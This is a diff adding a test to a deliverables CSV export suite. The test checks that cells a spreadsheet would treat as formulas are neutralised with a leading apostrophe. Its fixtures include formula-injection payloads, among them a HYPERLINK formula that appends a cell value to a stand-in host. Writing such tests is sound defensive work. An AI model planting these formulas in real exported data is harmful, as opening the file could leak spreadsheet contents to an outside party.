@@ -72,6 +72,28 @@ describe('CSV of deliverables', () => {
     });
   });
 
+  it('neutralises cells a spreadsheet would run as a formula', async () => {
+    const [{ id: zin }] = await app.dataSource.query(`SELECT id FROM party WHERE key = 'zorginstituut'`);
+    const formula = '=HYPERLINK("http://x"&A1,"Klik hier")';
+    const { createDeliverable } = await mutate(app, 'vws.editor@example.org', CREATE_DELIVERABLE, {
+      title: '@SUM(A1:A9)',
+      dueLabel: 'Q2 2029',
+      ownerPartyIds: [toGlobalId('Party', zin)],
+    });
+    await mutate(app, 'zin.editor@example.org', POST_UPDATE, {
+      deliverableId: createDeliverable.id,
+      health: 'AT_RISK',
+      text: formula,
+    });
+    const res = await get(
+      `/exports/deliverables.csv?dueAfter=2029-01-01&dueBefore=2029-12-31`,
+      await asUser(app, 'zin.viewer@example.org'),
+    );
+    const rows: Record<string, string>[] = parse(res.body, { columns: true, bom: true });
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({ title: "'@SUM(A1:A9)", lastUpdateText: `'${formula}` });
+  });
+
   it.each([
     ['an unknown status', '?status=LATE', 400, 'BAD_USER_INPUT'],
     ['a malformed day', '?dueBefore=31-12-2025', 400, 'BAD_USER_INPUT'],
